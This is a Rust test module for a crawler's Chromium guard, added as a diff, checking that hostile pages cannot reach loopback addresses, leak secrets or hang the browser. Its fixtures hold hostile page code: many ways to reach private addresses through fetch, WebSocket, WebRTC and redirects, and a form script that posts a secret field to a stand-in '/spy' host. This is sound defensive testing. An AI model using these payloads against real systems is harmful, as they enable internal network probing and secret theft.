@@ -1,0 +1,289 @@
+//! What pages try in a real Chromium. Here and not in tests/, since only here a name can be made to look public.
+
+use std::collections::{BTreeMap, HashMap};
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex};
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, UdpSocket};
+
+use super::*;
+use crate::model::{Failure, Script};
+use crate::robot::cookies::Jar;
+use crate::robot::guard::Guard;
+use crate::robot::session::Body;
+
+/// Far more than any of these needs, so that a busy machine fails none.
+const PLENTY: Duration = Duration::from_secs(90);
+
+/// A server with an answer for each path, which remembers what it was asked.
+struct Server {
+    address: SocketAddr,
+    heard: Arc<Mutex<Vec<String>>>,
+}
+
+impl Server {
+    /// `{here}` in an answer is the server's own port. A path without answer is never answered.
+    async fn start(answers: &[(&str, String)]) -> Server {
+        let listener = TcpListener::bind("127.0.0.1:0").await.expect("loopback has a free port");
+        let address = listener.local_addr().expect("it is bound");
+        let here = |text: &String| text.replace("{here}", &address.port().to_string());
+        let answers: HashMap<String, String> =
+            answers.iter().map(|(path, it)| ((*path).to_owned(), here(it))).collect();
+        let (answers, heard) = (Arc::new(answers), Arc::new(Mutex::new(Vec::new())));
+        let notes = Arc::clone(&heard);
+        tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                let (answers, notes) = (Arc::clone(&answers), Arc::clone(&notes));
+                tokio::spawn(async move {
+                    let request = read_request(&mut stream).await;
+                    let path =
+                        request.split(' ').nth(1).unwrap_or_default().split('?').next().unwrap_or_default().to_owned();
+                    notes.lock().expect("nobody panicked").push(request);
+                    match answers.get(&path) {
+                        Some(answer) => drop(stream.write_all(answer.as_bytes()).await),
+                        None => std::future::pending().await,
+                    }
+                });
+            }
+        });
+        Server { address, heard }
+    }
+
+    fn url(&self, host: &str, path: &str) -> Url {
+        Url::parse(&format!("http://{host}:{}{path}", self.address.port())).expect("a URL")
+    }
+
+    fn heard(&self, part: &str) -> bool {
+        self.heard.lock().expect("nobody panicked").iter().any(|it| it.contains(part))
+    }
+}
+
+async fn read_request(stream: &mut tokio::net::TcpStream) -> String {
+    let (mut request, mut piece) = (Vec::new(), [0; 16 << 10]);
+    loop {
+        let read = stream.read(&mut piece).await.unwrap_or(0);
+        request.extend_from_slice(&piece[..read]);
+        let text = String::from_utf8_lossy(&request).into_owned();
+        let length =
+            text.to_lowercase().split("content-length: ").nth(1).and_then(|it| it.split("\r\n").next()?.parse().ok());
+        let body = text.split_once("\r\n\r\n").map(|(_, body)| body.len());
+        if read == 0 || body.is_some_and(|body| body >= length.unwrap_or(0)) {
+            return text;
+        }
+    }
+}
+
+fn answer(head: &str, body: &str) -> String {
+    format!("HTTP/1.1 {head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
+}
+
+fn html(body: &str) -> String {
+    // Without the length, so that `{here}` may be replaced in it.
+    format!(
+        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<!DOCTYPE html><title>x</title><body>{body}"
+    )
+}
+
+fn redirect_to(location: &str) -> String {
+    answer(&format!("302 Found\r\nLocation: {location}"), "")
+}
+
+/// A browser for a task, to which `public.test` and `cdn.test` look public; and the session it belongs to.
+async fn browser(task: &str, server: &Server, jar: Jar, time: Duration) -> (Browser, Session) {
+    let task: Task =
+        toml::from_str(&format!("fetch.delay = '0s'\nfetch.robots_txt = false\n{task}")).expect("a task of the test");
+    let guard = Guard::new(&task, &Script::default());
+    for host in ["public.test", "cdn.test"] {
+        guard.pretend.stand_in(host, server.address);
+    }
+    let mut session = Session::new(&task, &BTreeMap::new(), guard, jar, Instant::now() + time).expect("a session");
+    let secrets = Blanks::new(&BTreeMap::from([("key".to_owned(), "hush-hush-7".to_owned())]));
+    let browser = Browser::start(Seat::default(), &task, &mut session, secrets).await.expect("Chromium is installed");
+    (browser, session)
+}
+
+const PUBLIC: &str = "url = 'http://public.test/'\n";
+
+fn body(page: &Page) -> String {
+    String::from_utf8_lossy(&page.body).into_owned()
+}
+
+/// Everything a page can think of to reach `host:port`, `udp` for what needs no connection.
+fn attempts(host: &str, tcp: u16, udp: u16) -> String {
+    format!(
+        "<h1>here</h1><iframe src='http://{host}:{tcp}/frame'></iframe><img src='http://{host}:{tcp}/img'>\
+         <script src='http://{host}:{tcp}/script'></script><link rel=stylesheet href='http://{host}:{tcp}/css'>\
+         <link rel=preconnect href='http://{host}:{tcp}'><link rel=dns-prefetch href='http://{host}:{tcp}'>\
+         <object data='http://{host}:{tcp}/object'></object><video src='http://{host}:{tcp}/video'></video>\
+         <script>fetch('http://{host}:{tcp}/fetch', {{ mode: 'no-cors' }}).catch(() => 0);\
+         navigator.sendBeacon('http://{host}:{tcp}/beacon', 'x');\
+         try {{ new WebSocket('ws://{host}:{tcp}/socket') }} catch {{}}\
+         try {{ new EventSource('http://{host}:{tcp}/events') }} catch {{}}\
+         const work = new Worker(URL.createObjectURL(new Blob([\"fetch('http://{host}:{tcp}/worker', {{ mode: 'no-cors' }})\"])));\
+         const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{host}:{udp}' }}] }});\
+         peer.createDataChannel('x'); peer.createOffer().then((it) => peer.setLocalDescription(it));\
+         window.open('http://{host}:{tcp}/window');</script>"
+    )
+}
+
+#[tokio::test]
+async fn a_page_reaches_no_private_address_whatever_it_tries() {
+    let canary = Server::start(&[]).await;
+    let udp = UdpSocket::bind("127.0.0.1:0").await.expect("loopback has a free port");
+    let (tcp_port, udp_port) = (canary.address.port(), udp.local_addr().expect("it is bound").port());
+    let own = Server::start(&[
+        ("/a", html(&attempts("127.0.0.1", tcp_port, udp_port))),
+        ("/b", html(&attempts("localhost", tcp_port, udp_port))),
+        ("/c", html(&attempts("[::ffff:127.0.0.1]", tcp_port, udp_port))),
+        ("/found", redirect_to(&format!("http://127.0.0.1:{tcp_port}/"))),
+        ("/script", html(&format!("<script>location = 'http://127.0.0.1:{tcp_port}/'</script>"))),
+        ("/refresh", html(&format!("<meta http-equiv=refresh content='0;url=http://127.1:{tcp_port}/'>"))),
+    ])
+    .await;
+    let hosts = "fetch.allow_hosts = ['public.test', '127.0.0.1', 'localhost', '[::ffff:7f00:1]']";
+    let (mut browser, mut session) = browser(hosts, &own, Jar::default(), PLENTY).await;
+    for path in ["/a", "/b", "/c"] {
+        let page = browser.go(&mut session, Request::get(own.url("public.test", path))).await.expect("a page");
+        assert!(body(&page).contains("<h1>here</h1>"), "{}", body(&page));
+        assert!(!session.log.iter().any(|line| line.contains("still busy")), "{:?}", session.log);
+    }
+    for path in ["/found", "/script", "/refresh"] {
+        let error = browser.go(&mut session, Request::get(own.url("public.test", path))).await.expect_err("refused");
+        assert_eq!(error.cause(), Failure::Network, "{path}: {error}");
+        assert!(error.to_string().contains("fetch.allow_private"), "{path}: {error}");
+    }
+    let error = browser.go(&mut session, Request::get(canary.url("127.0.0.1", "/"))).await.expect_err("refused");
+    assert_eq!(error.cause(), Failure::Network, "{error}");
+    browser.end().await;
+    assert_eq!(*canary.heard.lock().expect("nobody panicked"), Vec::<String>::new());
+    assert!(udp.try_recv(&mut [0; 64]).is_err(), "and no packet came either");
+}
+
+#[tokio::test]
+async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
+    let canary = Server::start(&[]).await;
+    let port = canary.address.port();
+    let own = Server::start(&[
+        ("/", html(&attempts("localhost", port, port))),
+        ("/cdn", html("<script src='http://cdn.test:{here}/lib.js'></script><iframe src='http://cdn.test:{here}/frame'></iframe>")),
+        ("/lib.js", answer("200 OK\r\nContent-Type: text/javascript", "document.body.append('from the cdn')")),
+        ("/frame", html("a frame")),
+    ])
+    .await;
+    let task = "url = 'http://127.0.0.1/'\nfetch.allow_private = true";
+    let (mut browser, mut session) = browser(task, &own, Jar::default(), PLENTY).await;
+    browser.go(&mut session, Request::get(own.url("127.0.0.1", "/"))).await.expect("a page");
+    let page = browser.go(&mut session, Request::get(own.url("127.0.0.1", "/cdn"))).await.expect("a page");
+    assert!(body(&page).contains("from the cdn"), "a script of a public host is loaded: {}", body(&page));
+    browser.end().await;
+    assert_eq!(*canary.heard.lock().expect("nobody panicked"), Vec::<String>::new(), "localhost is not 127.0.0.1");
+    assert!(!own.heard("GET /frame"), "a document of another host is not");
+}
+
+#[tokio::test]
+async fn bad_pages_end_in_named_outcomes() {
+    let own = Server::start(&[
+        ("/busy", html("<script>for (;;) {}</script>")),
+        ("/loop", redirect_to("/loop")),
+        ("/wander", html("<script>location = '/wander?' + Math.random()</script>")),
+        (
+            "/nodes",
+            html("<script>for (let n = 0; n < 1e6; n++) document.body.append(document.createElement('b'))</script>"),
+        ),
+        (
+            "/dialogs",
+            html("<script>onbeforeunload = () => 'stay'; alert(1); confirm(2); prompt(3)</script><p>after all</p>"),
+        ),
+        ("/file", answer("200 OK\r\nContent-Type: application/zip\r\nContent-Disposition: attachment", "PK")),
+        ("/large", html(&"<p>large</p>".repeat(400_000))),
+        ("/gone", answer("404 Not Found", "")),
+        ("/json", answer("200 OK\r\nContent-Type: application/json", "{\"a\": [1, 2]}")),
+    ])
+    .await;
+    let limits = format!("{PUBLIC}limits.max_page_bytes = '2M'");
+    let (mut browser, mut session) = browser(&limits, &own, Jar::default(), PLENTY).await;
+    for (path, cause, sentence) in [
+        ("/loop", Failure::Http, "redirected more than"),
+        ("/wander", Failure::Http, "redirected more than"),
+        ("/nodes", Failure::Limit, "is larger than 2M"),
+        ("/file", Failure::Http, "to be downloaded"),
+        ("/large", Failure::Limit, "is larger than 2M"),
+    ] {
+        let error = browser.go(&mut session, Request::get(own.url("public.test", path))).await.expect_err(path);
+        assert_eq!(error.cause(), cause, "{path}: {error}");
+        assert!(error.to_string().contains(sentence), "{path}: {error}");
+    }
+    let page = browser.go(&mut session, Request::get(own.url("public.test", "/dialogs"))).await.expect("a page");
+    assert!(body(&page).contains("after all"));
+    let page = browser.go(&mut session, Request::get(own.url("public.test", "/gone"))).await.expect("a page");
+    assert_eq!(page.meta.status, 404);
+    let page = browser.go(&mut session, Request::get(own.url("public.test", "/json"))).await.expect("a page");
+    assert_eq!(body(&page), "{\"a\": [1, 2]}", "as it came");
+    let busy = browser.go(&mut session, Request::get(own.url("public.test", "/busy"))).await.expect_err("busy");
+    assert_eq!(busy.cause(), Failure::Timeout, "{busy}");
+    browser.end().await;
+}
+
+#[tokio::test]
+async fn a_page_that_never_comes_ends_with_the_runs_time() {
+    let own = Server::start(&[]).await;
+    let (mut browser, mut session) = browser(PUBLIC, &own, Jar::default(), Duration::from_secs(8)).await;
+    let error =
+        browser.go(&mut session, Request::get(own.url("public.test", "/never"))).await.expect_err("it never comes");
+    assert_eq!(error.cause(), Failure::Timeout, "{error}");
+    browser.end().await;
+}
+
+#[tokio::test]
+async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
+    let form = "<form id=f method=post action=/form><input name=user><select name=town><option>Truro<option>Halifax</select></form>\
+        <script>f.onsubmit = async (it) => { it.preventDefault(); await fetch('/sent', { method: 'POST', body: new FormData(f).get('user') });\
+        fetch('http://cdn.test:{here}/spy', { method: 'POST', body: new FormData(f).get('user') }).catch(() => 0); document.body.append('done') }</script>";
+    let own = Server::start(&[
+        (
+            "/set",
+            answer(
+                "200 OK\r\nContent-Type: text/html\r\nSet-Cookie: sid=2; Path=/; HttpOnly",
+                "<script>document.cookie = 'js=3'</script>",
+            ),
+        ),
+        ("/post", redirect_to("http://cdn.test:{here}/elsewhere")),
+        ("/elsewhere", html("elsewhere")),
+        ("/form", html(form)),
+        ("/sent", answer("200 OK", "")),
+        ("/spy", answer("200 OK\r\nAccess-Control-Allow-Origin: *", "")),
+    ])
+    .await;
+    let mut jar = Jar::default();
+    jar.take("old=1; Path=/", &own.url("public.test", "/"));
+    let task = "fetch.allow_hosts = ['public.test']";
+    let (mut chrome, mut session) = browser(task, &own, jar, PLENTY).await;
+    chrome.go(&mut session, Request::get(own.url("public.test", "/set"))).await.expect("a page");
+    assert!(own.heard("Cookie: old=1"), "{:?}", own.heard);
+    let cookies = session.jar.header(&own.url("public.test", "/"));
+    assert_eq!(cookies.as_deref(), Some("js=3; old=1; sid=2"), "what the browser has goes back into the jar");
+
+    let mut post = Request { post: true, ..Request::get(own.url("public.test", "/post")) };
+    post.headers.push(("X-Api-Key".to_owned(), "for public.test".to_owned()));
+    post.body = Some(Body { content_type: "application/json".to_owned(), bytes: b"{\"a\":1}".to_vec() });
+    let error = chrome.go(&mut session, post).await.expect_err("another host");
+    assert!(error.to_string().contains("cdn.test"), "{error}");
+    for part in ["POST /post", "for public.test", "application/json", "{\"a\":1}"] {
+        assert!(own.heard(part), "{part}");
+    }
+    assert!(!own.heard("/elsewhere") && !own.heard("favicon"), "{:?}", own.heard);
+
+    let page = chrome.go(&mut session, Request::get(own.url("public.test", "/form"))).await.expect("a page");
+    let tree = crate::page::Tree::parse(&body(&page));
+    let values =
+        [("user", "hush-hush-7"), ("town", "Halifax")].map(|(name, value)| (name.to_owned(), value.to_owned()));
+    let form = &crate::robot::form::all(&tree)[0];
+    let filling = form.filling(&tree, &values.into(), crate::robot::form::Press::First).expect("its fields");
+    let request = Request { filling: Some(filling), ..Request::get(page.meta.url.clone()) };
+    let page = chrome.go(&mut session, request).await.expect("the page's script sends it");
+    assert!(body(&page).contains("done"), "{}", body(&page));
+    assert!(own.heard("hush-hush-7"));
+    assert!(!own.heard("POST /spy"), "a secret goes to no other host");
+    chrome.end().await;
+}
